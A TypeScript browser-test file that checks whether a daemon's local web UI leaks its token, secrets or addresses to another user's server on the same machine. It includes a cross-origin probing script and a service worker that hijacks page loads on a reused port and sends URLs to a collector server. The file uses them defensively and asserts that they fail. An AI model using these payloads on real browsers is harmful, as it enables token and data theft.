/**
 * What other users of the reader's machine learn of the page: their servers, and what they can read of processes and
 * files.
 */
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { UiProcess, whyNoBrowser } from "./page.ts";
import { SOON } from "./reading.ts";
import { apply, claim, nad, UiOfDaemon } from "./ui-of-daemon.ts";

const reason = whyNoBrowser();

/** Another user's server, and all that it was sent. */
class OtherServer {
  readonly heard: string[] = [];
  readonly #server: Server;

  private constructor(answer: (request: IncomingMessage) => { type: string; body: string }) {
    this.#server = createServer((request, response) => {
      let body = "";
      request.on("data", (chunk: Buffer) => {
        body += chunk.toString();
      });
      request.on("end", () => {
        this.heard.push([request.method, request.url, ...request.rawHeaders, body].join("\n"));
        const { type, body: answered } = answer(request);
        response.writeHead(200, { "content-type": type }).end(answered);
      });
    });
  }

  static async start(
    answer: (request: IncomingMessage) => { type: string; body: string } = () => ({
      type: "text/html",
      body: "<!doctype html><body></body>",
    }),
    { port = 0, host = "127.0.0.1" } = {},
  ): Promise<OtherServer> {
    const other = new OtherServer(answer);
    await new Promise<void>((resolve, reject) => {
      other.#server.once("error", reject);
      other.#server.listen(port, host, resolve);
    });
    return other;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  /** By each name of this machine. */
  get origins(): readonly string[] {
    return ["127.0.0.1", "localhost", "other.localhost"].map((name) => `http://${name}:${this.port}`);
  }

  async stop(): Promise<void> {
    const closed = new Promise((resolve) => this.#server.close(resolve));
    this.#server.closeAllConnections();
    await closed;
  }
}

/** All that a page can make the reader's browser send to an origin, and what comes back. In the browser. */
const ATTACK = `async (origin) => {
  const load = (tag, attributes) => new Promise((resolve) => {
    const one = Object.assign(document.createElement(tag), attributes, {
      onload: () => resolve("loaded"), onerror: () => resolve("failed"),
    });
    document.body.append(one);
  });
  const read = (path, init) => fetch(origin + path, init).then((answer) => answer.text()).catch(() => "failed");
  const submit = async (method) => {
    document.body.append(Object.assign(document.createElement("iframe"), { name: method }));
    const form = Object.assign(document.createElement("form"), { method, action: origin + "/api/v1/allocations", target: method });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 200));
    try { return frames[method].document.body.textContent; } catch { return "another origin"; }
  };
  const found = { storage: JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie, name, document.referrer, location.href]) };
  for (const path of ["/api/v1/allocations", "/stream"]) {
    found["cors " + path] = await read(path, { credentials: "include" });
    found["opaque " + path] = await read(path, { credentials: "include", mode: "no-cors" });
    found["header " + path] = await read(path, { headers: { authorization: "Bearer guess" } });
    found["image " + path] = await load("img", { src: origin + path });
    found["script " + path] = await load("script", { src: origin + path });
  }
  found.page = await load("script", { src: origin + "/page.js" });
  found.events = await new Promise((resolve) => {
    const source = new EventSource(origin + "/stream", { withCredentials: true });
    source.addEventListener("hello", () => resolve("heard"));
    source.onerror = () => { source.close(); resolve("failed"); };
  });
  found.get = await submit("GET");
  found.post = await submit("POST");
  found.tabs = await new Promise((resolve) => {
    const tabs = new BroadcastChannel("holdfast-token");
    tabs.onmessage = ({ data }) => resolve(data);
    tabs.postMessage("who knows the token?");
    setTimeout(() => resolve("nothing"), 500);
  });
  return found;
}`;

/** Something of the ledger that nobody else may read. */
const SECRET = "very-secret-vm";

describe.skipIf(reason !== null)("another user's server on the reader's machine", () => {
  let shown: UiOfDaemon;
  const others: OtherServer[] = [];
  const started = async (...options: Parameters<typeof OtherServer.start>) => {
    const other = await OtherServer.start(...options);
    others.push(other);
    return other;
  };
  beforeAll(async () => {
    shown = await UiOfDaemon.start((daemon) =>
      apply(daemon, [nad("blue", { subnets: "192.168.10.0/24" }), claim("blue", SECRET, ["192.168.10.9/24"])]),
    );
  });
  afterEach(async () => {
    await Promise.all(others.splice(0).map((other) => other.stop()));
  });
  afterAll(() => shown?.stop());

  const expectNothing = (text: string, { token }: UiProcess) => {
    expect(token).toMatch(/^[\w-]{32}$/);
    expect(text).not.toContain(token);
    expect(text).not.toContain(SECRET);
    expect(text).not.toContain("192.168.10.9");
  };
  const noCookies = async (context: BrowserContext) => expect(await context.cookies()).toEqual([]);

  test("receives no secret of a reader who comes along, in no header, and reads nothing of the page", async () => {
    const other = await started();
    const page = await shown.open("/networks/blue");
    await page.getByText("192.168.10.9", { exact: true }).waitFor();
    for (const origin of other.origins) {
      const attacker = await page.context().newPage();
      await attacker.goto(`${origin}/`);
      for (const target of [other.origins, shown.ui.origin, shown.ui.address].flat()) {
        const found = (await attacker.evaluate(`(${ATTACK})(${JSON.stringify(target)})`)) as object;
        expectNothing(JSON.stringify(found), shown.ui);
        if (other.origins.includes(target)) continue;
        expect(found).toMatchObject({ page: "failed", events: "failed", "cors /stream": "failed" });
      }
      await attacker.close();
    }
    // In the reader's own tab: by a link from the page, and back.
    for (const origin of other.origins) {
      await page.evaluate(
        `document.body.append(Object.assign(document.createElement("a"), { href: "${origin}/linked", id: "away", textContent: "away" }))`,
      );
      await page.evaluate(`document.querySelector("#away").click()`);
      await page.waitForURL(`${origin}/linked`);
      expectNothing(JSON.stringify(await page.evaluate(`(${ATTACK})("${origin}")`)), shown.ui);
      await page.goBack();
      await page.getByText("192.168.10.9", { exact: true }).waitFor(SOON);
    }
    expect(other.heard.length).toBeGreaterThan(50);
    expect(other.heard.some((one) => one.startsWith("GET\n/linked\n"))).toBe(true);
    expectNothing(other.heard.join("\n\n"), shown.ui);
    await noCookies(page.context());
    await page.context().close();
  });

  test("that had the port before left nothing in the browser that receives the token", async () => {
    const collector = await started();
    const script = `
      addEventListener("install", () => skipWaiting());
      addEventListener("activate", (event) => event.waitUntil(clients.claim()));
      addEventListener("fetch", (event) => event.request.mode === "navigate" && event.respondWith(new Response(
        "<!doctype html><script>fetch('${collector.origins[0]}/?' + encodeURIComponent(location.href), { mode: 'no-cors' })</script>stolen",
        { headers: { "content-type": "text/html" } })));
    `;
    const earlier = await OtherServer.start(({ url }) =>
      url === "/worker.js"
        ? { type: "text/javascript", body: script }
        : { type: "text/html", body: "<!doctype html><body></body>" },
    );
    const { port } = earlier;
    const page = await shown.browser.open("about:blank");
    try {
      for (const origin of earlier.origins) {
        await page.goto(`${origin}/`);
        await page.evaluate(`navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)`);
      }
    } finally {
      await earlier.stop();
    }
    // What it left is there, and answers in its place.
    await page.goto(`http://127.0.0.1:${port}/#t=bait`);
    await expect.poll(() => collector.heard.join(), SOON).toContain("bait");
    const ui = await UiProcess.start("--socket", shown.daemon.socket, "--port", `${port}`);
    try {
      await page.goto(ui.url);
      await page.getByRole("link", { name: "blue", exact: true }).waitFor(SOON);
      expectNothing(collector.heard.join("\n"), ui);
    } finally {
      await ui.stop();
      await page.context().close();
    }
  });

  test("cannot have the same port of the other loopback address", async (context) => {
    const other = await started(undefined, { host: "::1" }).catch(() => null);
    if (other === null) return context.skip("this machine has no ::1");
    const words = ["--socket", shown.daemon.socket, "--port", `${other.port}`];
    await expect(UiProcess.start(...words)).rejects.toThrow(
      `error: port ${other.port} of the loopback addresses cannot be used`,
    );
    const ui = await UiProcess.start("--socket", shown.daemon.socket);
    try {
      const { port } = new URL(ui.url);
      await expect(OtherServer.start(undefined, { port: Number(port), host: "::1" })).rejects.toThrow("EADDRINUSE");
      const page = await shown.browser.open(ui.url);
      await page.getByRole("link", { name: "blue", exact: true }).waitFor(SOON);
      await page.context().close();
    } finally {
      await ui.stop();
    }
  });
});
